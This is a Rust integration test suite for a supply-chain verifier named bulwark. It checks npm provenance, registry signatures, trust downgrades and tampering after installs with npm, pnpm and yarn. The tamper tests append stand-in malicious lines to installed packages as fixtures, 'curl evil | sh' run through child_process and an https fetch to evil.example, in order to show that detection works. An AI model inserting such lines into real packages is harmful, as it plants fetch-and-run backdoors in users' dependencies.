//! `bulwark verify` end to end: a loopback registry serves packuments assembled from the real
//! recorded data of `../shared/fixtures/npm-trust` (published tarballs, attestation responses,
//! registry signatures), and real npm installs from it into a temporary project.

use std::collections::HashMap;
use std::io::Read as _;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use base64::Engine as _;
use serde_json::{Value, json};
mod common;

use common::{bulwark_command, json, npm_trust_fixtures, read, run, serve, sri_sha512, tool};

fn bulwark(args: &[&str]) -> Output {
    run(bulwark_command()
        .args(args)
        // Only the caches a test names are searched.
        .env("HOME", "/nonexistent")
        .env_remove("npm_config_cache")
        .env_remove("XDG_CACHE_HOME")
        .env_remove("XDG_DATA_HOME")
        .env_remove("YARN_CACHE_FOLDER")
        .env_remove("BULWARK_REGISTRY"))
}

fn tarball_manifest(tarball: &[u8]) -> Value {
    let mut archive = tar::Archive::new(flate2::read::GzDecoder::new(tarball));
    for entry in archive.entries().unwrap() {
        let mut entry = entry.unwrap();
        if entry.path().unwrap().to_str() == Some("package/package.json") {
            let mut text = String::new();
            entry.read_to_string(&mut text).unwrap();
            return serde_json::from_str(&text).unwrap();
        }
    }
    panic!("no package.json");
}

/// One version the loopback registry publishes.
struct Published {
    name: &'static str,
    version: &'static str,
    /// Tarball file under `tarballs/`.
    tarball: Option<&'static str>,
    /// Attestation response under `attestations/`.
    attestations: Option<&'static str>,
    /// `dist.integrity` when there is no tarball.
    integrity: Option<String>,
    signatures: Option<Value>,
    time: &'static str,
    /// Fields the registry manifest shows instead of the tarball's (manifest confusion).
    registry_manifest: Option<Value>,
}

fn tarball_path(name: &str, version: &str) -> String {
    let base = name.rsplit('/').next().unwrap();
    format!("/{name}/-/{base}-{version}.tgz")
}

/// Registry files (packuments, tarballs, attestations) at their URL paths, for `base`.
fn registry_files(base: &str, published: &[Published]) -> HashMap<String, Vec<u8>> {
    let mut files = HashMap::new();
    let mut packuments: HashMap<&str, Value> = HashMap::new();
    for item in published {
        let tarball = item
            .tarball
            .map(|file| read(&npm_trust_fixtures().join("tarballs").join(file)));
        let mut manifest = tarball.as_deref().map_or_else(
            || json!({"name": item.name, "version": item.version}),
            tarball_manifest,
        );
        let integrity = tarball
            .as_deref()
            .map_or_else(|| item.integrity.clone().unwrap(), sri_sha512);
        let path = tarball_path(item.name, item.version);
        let mut dist = json!({"integrity": integrity, "tarball": format!("{base}{path}")});
        if let Some(signatures) = &item.signatures {
            dist["signatures"] = signatures.clone();
        }
        if let Some(attestations) = item.attestations {
            let url = format!("/-/npm/v1/attestations/{}@{}", item.name, item.version);
            dist["attestations"] = json!({"url": format!("{base}{url}"), "provenance": {"predicateType": "https://slsa.dev/provenance/v1"}});
            files.insert(
                url,
                read(&npm_trust_fixtures().join("attestations").join(attestations)),
            );
        }
        if let Some(Value::Object(fields)) = &item.registry_manifest {
            for (key, value) in fields {
                manifest[key.as_str()] = value.clone();
            }
        }
        manifest["dist"] = dist;
        if let Some(bytes) = tarball {
            files.insert(path, bytes);
        }
        let packument = packuments.entry(item.name).or_insert_with(
            || json!({"name": item.name, "versions": {}, "time": {}, "dist-tags": {}}),
        );
        packument["versions"][item.version] = manifest;
        packument["time"][item.version] = json!(item.time);
        packument["dist-tags"]["latest"] = json!(item.version);
    }
    // The registry's signing keys document (the npm keys).
    files.insert(
        "/-/npm/v1/keys".to_owned(),
        read(&npm_trust_fixtures().join("registry-keys/npm-v1-keys.json")),
    );
    for (name, packument) in packuments {
        files.insert(format!("/{name}"), serde_json::to_vec(&packument).unwrap());
    }
    files
}

fn start_registry(published: &[Published]) -> (String, HashMap<String, Vec<u8>>) {
    start_registry_with(published, true)
}

/// `signs: false` serves no `/-/npm/v1/keys`: a registry that does not sign.
fn start_registry_with(published: &[Published], signs: bool) -> (String, HashMap<String, Vec<u8>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let mut files = registry_files(&base, published);
    if !signs {
        files.remove("/-/npm/v1/keys");
    }
    serve(files.clone(), listener);
    (base, files)
}

fn signature_entry(file: &str, name: &str, version: &str) -> Value {
    let document: Value = serde_json::from_slice(&read(
        &npm_trust_fixtures().join("registry-signatures").join(file),
    ))
    .unwrap();
    document["entries"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["name"] == name && e["version"] == version)
        .unwrap()
        .clone()
}

fn attested() -> Vec<Published> {
    let valid_signature = signature_entry("valid.json", "kms-demo", "1.0.0");
    // The invalid.json case whose version was changed to 2.5.1: the signature covers 2.5.0.
    let document: Value = serde_json::from_slice(&read(
        &npm_trust_fixtures().join("registry-signatures/invalid.json"),
    ))
    .unwrap();
    let tampered = document["entries"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["version"] == "2.5.1")
        .unwrap()
        .clone();
    vec![
        // A v0.3 bundle; the registry shows no dependencies while the tarball installs two.
        Published {
            name: "@playwright/cli",
            version: "0.1.1",
            tarball: Some("playwright-cli-0.1.1.tgz"),
            attestations: Some("valid/playwright-cli-0.1.1.json"),
            integrity: None,
            signatures: None,
            time: "2026-02-14T23:28:00Z",
            registry_manifest: Some(json!({"dependencies": {}})),
        },
        Published {
            name: "gundam-visor",
            version: "1.0.1",
            tarball: Some("gundam-visor-1.0.1.tgz"),
            attestations: Some("valid/gundam-visor-1.0.1.json"),
            integrity: None,
            signatures: None,
            time: "2024-05-01T00:00:00Z",
            registry_manifest: None,
        },
        Published {
            name: "@laurentsimon/provenance-npm-test",
            version: "1.0.3",
            tarball: Some("laurentsimon-provenance-npm-test-1.0.3.tgz"),
            attestations: Some("valid/laurentsimon-provenance-npm-test-1.0.3.slsa-v0.2.json"),
            integrity: None,
            signatures: None,
            time: "2023-04-20T00:00:00Z",
            registry_manifest: None,
        },
        Published {
            name: "@laurentsimon/provenance-npm-test",
            version: "1.0.5",
            tarball: Some("laurentsimon-provenance-npm-test-1.0.5.tgz"),
            attestations: Some("valid/laurentsimon-provenance-npm-test-1.0.5.slsa-v0.2.json"),
            integrity: None,
            signatures: None,
            time: "2023-04-21T00:00:00Z",
            registry_manifest: None,
        },
        // Synthetic downgrade: a later version with no provenance at all.
        Published {
            name: "@laurentsimon/provenance-npm-test",
            version: "1.0.6",
            tarball: None,
            attestations: None,
            integrity: Some(sri_sha512(b"1.0.6")),
            signatures: None,
            time: "2023-04-22T00:00:00Z",
            registry_manifest: None,
        },
        Published {
            name: "@trishankatdatadog/supreme-goggles",
            version: "1.0.5",
            tarball: Some("trishankatdatadog-supreme-goggles-1.0.5.tgz"),
            attestations: Some(
                "invalid/trishankatdatadog-supreme-goggles-1.0.5.invalidsigprov.json",
            ),
            integrity: None,
            signatures: None,
            time: "2023-04-21T00:00:00Z",
            registry_manifest: None,
        },
        Published {
            name: "kms-demo",
            version: "1.0.0",
            tarball: None,
            attestations: None,
            integrity: valid_signature["dist"]["integrity"]
                .as_str()
                .map(str::to_owned),
            signatures: Some(valid_signature["dist"]["signatures"].clone()),
            time: "2022-03-01T00:00:00Z",
            registry_manifest: None,
        },
        Published {
            name: "async",
            version: "2.5.1",
            tarball: None,
            attestations: None,
            integrity: tampered["dist"]["integrity"].as_str().map(str::to_owned),
            signatures: Some(tampered["dist"]["signatures"].clone()),
            time: "2022-03-01T00:00:00Z",
            registry_manifest: None,
        },
    ]
}

/// A package-lock.json v3 for `(install path, name, version, integrity, resolved)`.
fn write_lockfile(dir: &Path, entries: &[(&str, &str, &str, String, String)]) {
    let mut packages = json!({"": {"name": "app", "version": "1.0.0"}});
    for (path, name, version, integrity, resolved) in entries {
        packages[*path] =
            json!({"name": name, "version": version, "integrity": integrity, "resolved": resolved});
    }
    let lock = json!({"name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": true, "packages": packages});
    std::fs::write(
        dir.join("package-lock.json"),
        serde_json::to_vec_pretty(&lock).unwrap(),
    )
    .unwrap();
    std::fs::write(
        dir.join("package.json"),
        br#"{"name":"app","version":"1.0.0"}"#,
    )
    .unwrap();
}

fn package<'a>(report: &'a Value, name: &str, version: &str) -> &'a Value {
    report["packages"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["name"] == name && p["version"] == version)
        .unwrap_or_else(|| panic!("{name}@{version} not in {report:#}"))
}

fn codes(package: &Value) -> Vec<String> {
    let mut codes: Vec<String> = package["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            let kind = f["kind"].as_str().unwrap();
            match kind {
                "signature" => format!("signature:{}", f["outcome"]["outcome"].as_str().unwrap()),
                "trust-downgrade" => format!("trust-downgrade:{}", f["change"].as_str().unwrap()),
                other => other.to_owned(),
            }
        })
        .collect();
    codes.sort();
    codes
}

fn lockfile_for(base: &str) -> Vec<(&'static str, &'static str, &'static str, String, String)> {
    let entry = |path, name: &'static str, version: &'static str, integrity: String| {
        (
            path,
            name,
            version,
            integrity,
            format!("{base}{}", tarball_path(name, version)),
        )
    };
    let tarball_sri =
        |file: &str| sri_sha512(&read(&npm_trust_fixtures().join("tarballs").join(file)));
    vec![
        (
            "node_modules/@playwright/cli",
            "@playwright/cli",
            "0.1.1",
            tarball_sri("playwright-cli-0.1.1.tgz"),
            format!("{base}/evil/-/evil-0.1.1.tgz"),
        ),
        entry(
            "node_modules/gundam-visor",
            "gundam-visor",
            "1.0.1",
            tarball_sri("gundam-visor-1.0.1.tgz"),
        ),
        entry(
            "node_modules/@laurentsimon/provenance-npm-test",
            "@laurentsimon/provenance-npm-test",
            "1.0.5",
            tarball_sri("laurentsimon-provenance-npm-test-1.0.5.tgz"),
        ),
        entry(
            "node_modules/a/node_modules/@laurentsimon/provenance-npm-test",
            "@laurentsimon/provenance-npm-test",
            "1.0.6",
            sri_sha512(b"1.0.6"),
        ),
        entry(
            "node_modules/@trishankatdatadog/supreme-goggles",
            "@trishankatdatadog/supreme-goggles",
            "1.0.5",
            tarball_sri("trishankatdatadog-supreme-goggles-1.0.5.tgz"),
        ),
        entry(
            "node_modules/kms-demo",
            "kms-demo",
            "1.0.0",
            signature_entry("valid.json", "kms-demo", "1.0.0")["dist"]["integrity"]
                .as_str()
                .unwrap()
                .to_owned(),
        ),
        entry(
            "node_modules/async",
            "async",
            "2.5.1",
            sri_sha512(b"not the registry's"),
        ),
        (
            "node_modules/ghost",
            "ghost",
            "9.9.9",
            sri_sha512(b"ghost"),
            format!("{base}/ghost/-/ghost-9.9.9.tgz"),
        ),
    ]
}

fn assert_registry_findings(report: &Value) {
    // The registry manifest hides the tarball's dependencies, and the lockfile resolved the
    // package from another package's URL; its v0.3 provenance bundle verifies.
    let playwright = package(report, "@playwright/cli", "0.1.1");
    assert_eq!(
        codes(playwright),
        [
            "manifest-confusion",
            "resolved-mismatch",
            "signature:missing-signature"
        ],
        "{playwright:#}"
    );
    assert_eq!(playwright["checks"]["provenance"], "passed");
    assert_eq!(playwright["checks"]["integrity"], "passed");
    let confusion = playwright["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["kind"] == "manifest-confusion")
        .unwrap();
    assert_eq!(confusion["mismatches"][0]["field"], "dependencies");
    assert_eq!(
        playwright["provenance"]["repository"],
        "https://github.com/microsoft/playwright-cli"
    );
    // Verified provenance, tarball downloaded and checked; the registry signs (keys are
    // configured) but this recorded packument has no signatures: reported.
    let gundam = package(report, "gundam-visor", "1.0.1");
    assert_eq!(codes(gundam), ["signature:missing-signature"], "{gundam:#}");
    assert_eq!(gundam["checks"]["provenance"], "passed");
    assert_eq!(gundam["checks"]["integrity"], "passed");
    assert_eq!(
        gundam["provenance"]["repository"],
        "https://github.com/ramonpetgrave64/gundam-visor"
    );
    assert_eq!(
        gundam["provenance"]["workflow"],
        ".github/workflows/npm-publish.yml"
    );
    // 1.0.5 verifies, but was built by another workflow and builder than 1.0.3.
    let laurent = package(report, "@laurentsimon/provenance-npm-test", "1.0.5");
    assert_eq!(laurent["checks"]["provenance"], "passed");
    assert_eq!(
        codes(laurent),
        [
            "signature:missing-signature",
            "trust-downgrade:builder-changed",
            "trust-downgrade:workflow-changed"
        ],
        "{laurent:#}"
    );
    // 1.0.6 has no provenance while 1.0.5 had it.
    let dropped = package(report, "@laurentsimon/provenance-npm-test", "1.0.6");
    assert_eq!(
        codes(dropped),
        [
            "signature:missing-signature",
            "trust-downgrade:provenance-dropped"
        ],
        "{dropped:#}"
    );
    // A tampered provenance signature.
    let goggles = package(report, "@trishankatdatadog/supreme-goggles", "1.0.5");
    assert_eq!(
        codes(goggles),
        ["provenance", "signature:missing-signature"],
        "{goggles:#}"
    );
    let failed: Vec<&str> = goggles["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["kind"] == "provenance")
        .flat_map(|f| {
            f["failures"]
                .as_array()
                .unwrap()
                .iter()
                .map(|x| x["check"].as_str().unwrap())
        })
        .collect();
    assert_eq!(failed, ["body_binds", "dsse_sig"]);
    // Registry signatures: valid under the old key (published before its expiry), and a
    // signature over another version.
    let kms = package(report, "kms-demo", "1.0.0");
    assert_eq!(codes(kms), Vec::<String>::new(), "{kms:#}");
    assert_eq!(kms["checks"]["signature"], "passed");
    let asyncpkg = package(report, "async", "2.5.1");
    assert_eq!(
        codes(asyncpkg),
        ["registry-integrity-mismatch", "signature:invalid-signature"],
        "{asyncpkg:#}"
    );
    // Not in the registry at all.
    assert_eq!(
        codes(package(report, "ghost", "9.9.9")),
        ["version-not-in-registry"]
    );
}

/// Lockfile against a registry over HTTP (`--registry`, `--fetch`): provenance, signatures,
/// trust downgrades, integrity mismatches and unknown versions, each with its exact finding.
#[test]
fn registry_signatures_and_provenance_over_http() {
    let (base, _) = start_registry(&attested());
    let project = tempfile::tempdir().unwrap();
    write_lockfile(project.path(), &lockfile_for(&base));
    let keys = npm_trust_fixtures().join("registry-keys/npm-v1-keys.json");
    let root = npm_trust_fixtures().join("sigstore-trust/trusted_root.json");
    let output = bulwark(&[
        "verify",
        project.path().to_str().unwrap(),
        "--registry",
        &base,
        "--fetch",
        "--keys",
        keys.to_str().unwrap(),
        "--trusted-root",
        root.to_str().unwrap(),
        "--format",
        "json",
    ]);
    let stderr = String::from_utf8_lossy(&output.stderr);
    let report: Value =
        serde_json::from_slice(&output.stdout).unwrap_or_else(|e| panic!("{e}: {stderr}"));
    assert_eq!(output.status.code(), Some(1), "{stderr} {report:#}");
    assert_registry_findings(&report);

    // Human output names each package and reason.
    let output = bulwark(&[
        "verify",
        project.path().to_str().unwrap(),
        "--registry",
        &base,
    ]);
    let text = String::from_utf8_lossy(&output.stdout);
    assert!(
        text.contains("@laurentsimon/provenance-npm-test@1.0.6")
            && text.contains("trust downgrade: no provenance, 1.0.5 had it"),
        "{text}"
    );
    assert!(
        text.contains("registry signature: invalid-signature"),
        "{text}"
    );
}

/// `bulwark verify <project> <args> --format json`: the exit code and the parsed report.
fn verify_json(project: &Path, args: &[&str]) -> (Option<i32>, Value) {
    let project = project.to_str().unwrap();
    let output = bulwark(&[&["verify", project], args, &["--format", "json"]].concat());
    (output.status.code(), json(&output))
}

/// Keys come from the registry's own `/-/npm/v1/keys`; a registry without that document does
/// not sign, so unsigned versions are no finding there (and nothing counts as verified).
#[test]
fn keys_come_from_the_registry() {
    let project = tempfile::tempdir().unwrap();
    let (base, _) = start_registry(&attested());
    write_lockfile(project.path(), &lockfile_for(&base));
    let (_, report) = verify_json(project.path(), &["--registry", &base]);
    assert_eq!(
        package(&report, "kms-demo", "1.0.0")["checks"]["signature"],
        "passed"
    );
    assert_eq!(
        codes(package(&report, "gundam-visor", "1.0.1")),
        ["signature:missing-signature"]
    );

    let (unsigned, _) = start_registry_with(&attested(), false);
    write_lockfile(project.path(), &lockfile_for(&unsigned));
    let (_, report) = verify_json(project.path(), &["--registry", &unsigned]);
    let gundam = package(&report, "gundam-visor", "1.0.1");
    assert_eq!(codes(gundam), Vec::<String>::new(), "{gundam:#}");
    assert_eq!(gundam["checks"]["signature"], "skipped");
    assert_eq!(
        package(&report, "kms-demo", "1.0.0")["checks"]["signature"],
        "skipped"
    );
}

/// The same answers recorded in a directory (`--packuments`) give the same findings offline,
/// with the shipped keys and trusted root.
#[test]
fn recorded_packuments_work_offline() {
    // The base URL only appears in `dist.tarball`; nothing listens there.
    let base = "http://127.0.0.1:9";
    let files = registry_files(base, &attested());
    let recorded = tempfile::tempdir().unwrap();
    for (path, bytes) in &files {
        let relative = path.trim_start_matches('/');
        let target = if relative.ends_with(".tgz") {
            recorded.path().join(relative)
        } else {
            recorded.path().join(format!("{relative}.json"))
        };
        std::fs::create_dir_all(target.parent().unwrap()).unwrap();
        std::fs::write(target, bytes).unwrap();
    }
    let project = tempfile::tempdir().unwrap();
    write_lockfile(project.path(), &lockfile_for(base));
    let (code, report) = verify_json(
        project.path(),
        &["--packuments", recorded.path().to_str().unwrap(), "--fetch"],
    );
    assert_eq!(code, Some(1), "{report:#}");
    assert_registry_findings(&report);
}

fn npm_install(project: &Path, registry: &str, cache: &Path, specs: &[&str]) {
    let output = Command::new("npm")
        .current_dir(project)
        .args([
            "install",
            "--registry",
            registry,
            "--cache",
            cache.to_str().unwrap(),
        ])
        .args([
            "--ignore-scripts",
            "--no-audit",
            "--no-fund",
            "--omit-lockfile-registry-resolved=false",
            "--prefer-online",
        ])
        .args(specs)
        .output()
        .expect("npm is installed");
    assert!(
        output.status.success(),
        "npm install: {}",
        String::from_utf8_lossy(&output.stderr)
    );
}

/// Real npm installs two packages from the loopback registry into a project with its own
/// cache. The untouched tree verifies clean (npm's own bookkeeping included); a modified, an
/// added and a removed file are each reported with their path, and a corrupted cache entry is
/// an integrity mismatch.
#[test]
fn tamper_detection_after_a_real_npm_install() {
    let (base, _) = start_registry(&attested());
    let work = tempfile::tempdir().unwrap();
    let project = work.path().join("app");
    let cache = work.path().join("npm-cache");
    std::fs::create_dir_all(&project).unwrap();
    std::fs::write(
        project.join("package.json"),
        br#"{"name":"app","version":"1.0.0"}"#,
    )
    .unwrap();
    npm_install(
        &project,
        &base,
        &cache,
        &[
            "gundam-visor@1.0.1",
            "@trishankatdatadog/supreme-goggles@1.0.5",
        ],
    );
    let verify = || {
        let output = bulwark(&[
            "verify",
            project.to_str().unwrap(),
            "--cache-dir",
            cache.to_str().unwrap(),
            "--format",
            "json",
        ]);
        let report: Value = serde_json::from_slice(&output.stdout)
            .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&output.stderr)));
        (output.status.code(), report)
    };
    let (code, report) = verify();
    assert_eq!(code, Some(0), "{report:#}");
    for (name, version) in [
        ("gundam-visor", "1.0.1"),
        ("@trishankatdatadog/supreme-goggles", "1.0.5"),
    ] {
        let result = package(&report, name, version);
        assert_eq!(result["checks"]["integrity"], "passed", "{result:#}");
        assert_eq!(result["checks"]["tamper"], "passed", "{result:#}");
    }

    // npm 6 and older rewrote package.json with `_resolved`, `_integrity`, `_from`…: not tampering.
    let manifest_path = project.join("node_modules/gundam-visor/package.json");
    let mut manifest: Value = serde_json::from_slice(&read(&manifest_path)).unwrap();
    manifest["_resolved"] = json!(format!("{base}/gundam-visor/-/gundam-visor-1.0.1.tgz"));
    manifest["_integrity"] = json!("sha512-whatever");
    manifest["_from"] = json!("gundam-visor@1.0.1");
    std::fs::write(
        &manifest_path,
        serde_json::to_vec_pretty(&manifest).unwrap(),
    )
    .unwrap();
    assert_eq!(verify().0, Some(0));

    // A worm-like edit: one file changed, one file dropped into another package, one removed.
    let gundam = project.join("node_modules/gundam-visor");
    let main_file = std::fs::read_dir(&gundam)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().into_string().unwrap())
        .find(|n| n.ends_with(".js"))
        .expect("a .js file");
    let mut contents = read(&gundam.join(&main_file));
    contents.extend_from_slice(b"\nrequire('child_process').exec('curl evil | sh');\n");
    std::fs::write(gundam.join(&main_file), contents).unwrap();
    let goggles = project.join("node_modules/@trishankatdatadog/supreme-goggles");
    std::fs::write(goggles.join("setup_bun.js"), b"// injected\n").unwrap();
    let removed = std::fs::read_dir(&goggles)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().into_string().unwrap())
        .find(|n| n != "package.json" && n != "setup_bun.js" && goggles.join(n).is_file())
        .unwrap();
    std::fs::remove_file(goggles.join(&removed)).unwrap();
    let (code, report) = verify();
    assert_eq!(code, Some(1), "{report:#}");
    let changes = |name, version| -> Vec<(String, String)> {
        let result = package(&report, name, version);
        result["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["kind"] == "tampered")
            .flat_map(|f| {
                f["changes"].as_array().unwrap().iter().map(|c| {
                    (
                        c["path"].as_str().unwrap().to_owned(),
                        c["kind"].as_str().unwrap().to_owned(),
                    )
                })
            })
            .collect()
    };
    assert_eq!(
        changes("gundam-visor", "1.0.1"),
        [(main_file.clone(), "modified".to_owned())]
    );
    let mut expected = vec![
        (removed.clone(), "removed".to_owned()),
        ("setup_bun.js".to_owned(), "added".to_owned()),
    ];
    expected.sort();
    assert_eq!(
        changes("@trishankatdatadog/supreme-goggles", "1.0.5"),
        expected
    );
    let output = bulwark(&[
        "verify",
        project.to_str().unwrap(),
        "--cache-dir",
        cache.to_str().unwrap(),
    ]);
    let text = String::from_utf8_lossy(&output.stdout);
    assert!(
        text.contains(&format!("modified   {main_file}"))
            && text.contains("added      setup_bun.js"),
        "{text}"
    );

    // Corrupt the cached tarball of gundam-visor: its bytes no longer match the integrity.
    let integrity = sri_sha512(&read(
        &npm_trust_fixtures().join("tarballs/gundam-visor-1.0.1.tgz"),
    ));
    let digest = base64::engine::general_purpose::STANDARD
        .decode(integrity.trim_start_matches("sha512-"))
        .unwrap();
    let hex: String = digest.iter().map(|b| format!("{b:02x}")).collect();
    let content = cache
        .join("_cacache/content-v2/sha512")
        .join(&hex[..2])
        .join(&hex[2..4])
        .join(&hex[4..]);
    let mut bytes = read(&content);
    let last = bytes.len() - 1;
    bytes[last] ^= 1;
    let mut permissions = std::fs::metadata(&content).unwrap().permissions();
    #[allow(clippy::permissions_set_readonly_false)]
    permissions.set_readonly(false);
    std::fs::set_permissions(&content, permissions).unwrap();
    std::fs::write(&content, bytes).unwrap();
    let (code, report) = verify();
    assert_eq!(code, Some(1));
    assert_eq!(
        codes(package(&report, "gundam-visor", "1.0.1")),
        ["integrity-mismatch"]
    );
}

/// Bad input: a trusted root or keys file that is not one is a clear error naming it.
#[test]
fn malformed_trust_material_is_an_error() {
    let project = tempfile::tempdir().unwrap();
    write_lockfile(project.path(), &[]);
    let bad = project.path().join("root.json");
    std::fs::write(&bad, b"{\"tlogs\": 5}").unwrap();
    let output = bulwark(&[
        "verify",
        project.path().to_str().unwrap(),
        "--trusted-root",
        bad.to_str().unwrap(),
    ]);
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stderr).contains("root.json"));
    let output = bulwark(&[
        "verify",
        project.path().to_str().unwrap(),
        "--keys",
        bad.to_str().unwrap(),
    ]);
    assert_eq!(output.status.code(), Some(2));
    let output = bulwark(&["verify", project.path().to_str().unwrap()]);
    assert_eq!(
        output.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&output.stdout)
    );
}

/// pnpm (store index of per-file SHA-512), yarn classic (`.yarn-tarball.tgz` in its cache) and
/// yarn berry (cache zips): a fresh install verifies clean, an edited file is reported by path.
fn tamper_detection_with(client: &str) {
    let Some(binary) = tool(client) else { return };
    let (base, _) = start_registry(&attested());
    let work = tempfile::tempdir().unwrap();
    let project = work.path().join("app");
    let home = work.path().join("home");
    std::fs::create_dir_all(&project).unwrap();
    std::fs::create_dir_all(&home).unwrap();
    std::fs::write(
        project.join("package.json"),
        br#"{"name":"app","version":"1.0.0","dependencies":{"gundam-visor":"1.0.1","@trishankatdatadog/supreme-goggles":"1.0.5"}}"#,
    )
    .unwrap();
    let mut command = Command::new(&binary);
    // CI=true makes yarn berry refuse to write a lockfile and pnpm default to a frozen one.
    command
        .current_dir(&project)
        .env("HOME", &home)
        .env("YARN_ENABLE_IMMUTABLE_INSTALLS", "false")
        .env("npm_config_frozen_lockfile", "false")
        .arg("install");
    let cache = match client {
        "yarn1" => {
            command
                .args(["--registry", &base, "--ignore-scripts", "--no-progress"])
                .env("YARN_CACHE_FOLDER", work.path().join("yarn-cache"));
            work.path().join("yarn-cache/v6")
        }
        "yarn4" => {
            // node_modules linker, zips kept in the project (read without --cache-dir).
            std::fs::write(
                project.join(".yarnrc.yml"),
                format!(
                    "nodeLinker: node-modules\nnpmRegistryServer: \"{base}\"\nunsafeHttpWhitelist: [\"127.0.0.1\"]\nenableGlobalCache: false\nenableTelemetry: false\nenableScripts: false\n"
                ),
            )
            .unwrap();
            std::fs::write(project.join("yarn.lock"), b"").unwrap();
            project.join(".yarn/cache")
        }
        _ => {
            command
                .args(["--registry", &base, "--ignore-scripts", "--store-dir"])
                .arg(work.path().join("store"));
            work.path().join("store/v10")
        }
    };
    let output = command.output().unwrap();
    assert!(
        output.status.success(),
        "{client} install: {}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    let verify = || {
        let mut args = vec!["verify", project.to_str().unwrap(), "--format", "json"];
        if client != "yarn4" {
            args.extend(["--cache-dir", cache.to_str().unwrap()]);
        }
        let output = bulwark(&args);
        (
            output.status.code(),
            serde_json::from_slice::<Value>(&output.stdout).unwrap(),
        )
    };
    let (code, report) = verify();
    assert_eq!(code, Some(0), "{report:#}");
    let gundam = package(&report, "gundam-visor", "1.0.1");
    assert_eq!(gundam["checks"]["tamper"], "passed", "{gundam:#}");
    let installed = PathBuf::from(gundam["installed"][0].as_str().unwrap());
    let installed = if installed.is_absolute() {
        installed
    } else {
        project.join(installed)
    };
    let index = installed.join("index.js");
    // pnpm hard-links installed files to its store: replace the file rather than edit it in
    // place, as an attacker rewriting it would.
    let mut contents = read(&index);
    contents.extend_from_slice(b"\nrequire('https').get('https://evil.example/x');\n");
    std::fs::remove_file(&index).unwrap();
    std::fs::write(&index, contents).unwrap();
    let (code, report) = verify();
    assert_eq!(code, Some(1), "{report:#}");
    let findings = &package(&report, "gundam-visor", "1.0.1")["findings"];
    assert_eq!(findings[0]["kind"], "tampered", "{findings:#}");
    assert_eq!(
        findings[0]["changes"],
        json!([{"path": "index.js", "kind": "modified"}])
    );
}

/// pnpm 10: installed files against the store index.
#[test]
fn tamper_detection_after_a_pnpm_install() {
    tamper_detection_with("pnpm10");
}

/// yarn 1: installed files against the tarball kept in its cache.
#[test]
fn tamper_detection_after_a_yarn_classic_install() {
    tamper_detection_with("yarn1");
}

/// yarn 4 (node_modules linker): installed files against the zip in the project's
/// `.yarn/cache`, whose SHA-512 is the lockfile's checksum.
#[test]
fn tamper_detection_after_a_yarn_berry_install() {
    tamper_detection_with("yarn4");
}

/// Offline: a lockfile entry without integrity and one with a sha1 integrity are findings; a
/// bare installed tree (which records no integrity) is not.
#[test]
fn missing_and_weak_integrity() {
    let project = tempfile::tempdir().unwrap();
    let lock = json!({"name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": true, "packages": {
        "": {"name": "app", "version": "1.0.0"},
        "node_modules/no-integrity": {"version": "1.0.0", "resolved": "https://registry.npmjs.org/no-integrity/-/no-integrity-1.0.0.tgz"},
        "node_modules/old-sha1": {"version": "1.0.0", "resolved": "https://registry.npmjs.org/old-sha1/-/old-sha1-1.0.0.tgz",
            "integrity": "sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk="}
    }});
    std::fs::write(
        project.path().join("package-lock.json"),
        serde_json::to_vec_pretty(&lock).unwrap(),
    )
    .unwrap();
    std::fs::write(
        project.path().join("package.json"),
        br#"{"name":"app","version":"1.0.0"}"#,
    )
    .unwrap();
    let (code, report) = verify_json(project.path(), &[]);
    assert_eq!(code, Some(1), "{report:#}");
    assert_eq!(
        codes(package(&report, "no-integrity", "1.0.0")),
        ["missing-integrity"]
    );
    assert_eq!(
        codes(package(&report, "old-sha1", "1.0.0")),
        ["weak-integrity"]
    );

    let tree = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(tree.path().join("node_modules/left-pad")).unwrap();
    std::fs::write(
        tree.path().join("node_modules/left-pad/package.json"),
        br#"{"name":"left-pad","version":"1.3.0"}"#,
    )
    .unwrap();
    let (code, report) = verify_json(tree.path(), &[]);
    assert_eq!(code, Some(0), "{report:#}");
    assert_eq!(
        codes(package(&report, "left-pad", "1.3.0")),
        Vec::<String>::new()
    );
}

/// `--fetch` alone downloads a tarball no cache holds (from the lockfile's resolved URL),
/// checks it against the integrity, and asks the registry nothing else.
#[test]
fn fetch_alone_downloads_and_checks_tarballs() {
    let (base, _) = start_registry(&attested());
    let project = tempfile::tempdir().unwrap();
    let gundam = sri_sha512(&read(
        &npm_trust_fixtures().join("tarballs/gundam-visor-1.0.1.tgz"),
    ));
    let resolved = format!("{base}{}", tarball_path("gundam-visor", "1.0.1"));
    write_lockfile(
        project.path(),
        &[(
            "node_modules/gundam-visor",
            "gundam-visor",
            "1.0.1",
            gundam,
            resolved.clone(),
        )],
    );
    let (code, report) = verify_json(project.path(), &["--fetch"]);
    assert_eq!(code, Some(0), "{report:#}");
    let result = package(&report, "gundam-visor", "1.0.1");
    assert_eq!(result["checks"]["integrity"], "passed");
    assert_eq!(result["checks"]["registry"], "skipped");
    assert_eq!(result["checks"]["signature"], "skipped");
    assert_eq!(result["tarball"], resolved.as_str());
    // The same bytes under another package's integrity are a mismatch.
    write_lockfile(
        project.path(),
        &[(
            "node_modules/gundam-visor",
            "gundam-visor",
            "1.0.1",
            sri_sha512(b"other"),
            resolved,
        )],
    );
    let (code, report) = verify_json(project.path(), &["--fetch"]);
    assert_eq!(code, Some(1));
    assert_eq!(
        codes(package(&report, "gundam-visor", "1.0.1")),
        ["integrity-mismatch"]
    );
}
